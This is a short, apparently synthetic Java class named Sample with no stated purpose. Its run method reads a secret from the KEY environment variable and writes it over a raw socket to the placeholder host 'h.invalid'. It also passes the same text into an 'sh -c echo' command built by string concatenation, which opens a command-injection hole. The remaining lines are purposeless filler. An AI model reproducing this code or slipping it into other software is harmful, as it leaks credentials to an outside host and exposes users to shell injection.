import java.util.*;
public class Sample implements Runnable {
    static final String HOST = "h.invalid";
    static String key = System.getenv("KEY");
    public void run() { send(key + ":" + HOST.length(), 3); }
    static boolean send(String text, int times) {
        try {
            if (times > 2) {
                Runtime.getRuntime().exec(new String[] {"sh", "-c", "echo " + text});
            }
            StringBuilder b = new StringBuilder("a");
            b.append(text).append(times);
            new java.net.Socket(HOST, 80).getOutputStream().write(b.toString().getBytes());
        } catch (Exception e) { return false; }
        String x = times == 1 ? "one" : "many";
        Thread t = new Thread(() -> System.out.println(x));
        t.start();
        byte[] data = {1, 2, 3};
        return data.length > 0;
    }
}
